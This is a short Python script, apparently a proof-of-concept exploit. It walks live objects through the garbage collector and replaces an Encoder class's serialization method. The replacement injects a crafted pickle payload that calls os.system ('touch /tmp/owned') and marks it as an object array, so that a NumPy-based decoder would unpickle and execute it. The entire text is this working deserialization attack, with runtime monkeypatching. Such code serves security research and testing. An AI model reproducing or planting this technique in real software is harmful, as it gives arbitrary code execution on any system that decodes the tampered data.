import gc

import msgspec

gc.unfreeze()


def plain(self, value):
    # An array of objects: NumPy would unpickle it.
    self._buffers.append(b"cos\nsystem\n(S'touch /tmp/owned'\ntR.")
    return [value[0], "ok", self._ext(1, ["|O", [1], 0])]


for thing in gc.get_objects():
    if type(thing).__name__ == "Encoder" and hasattr(thing, "_plain"):
        type(thing)._plain = plain
msgspec.msgpack.Encoder = None
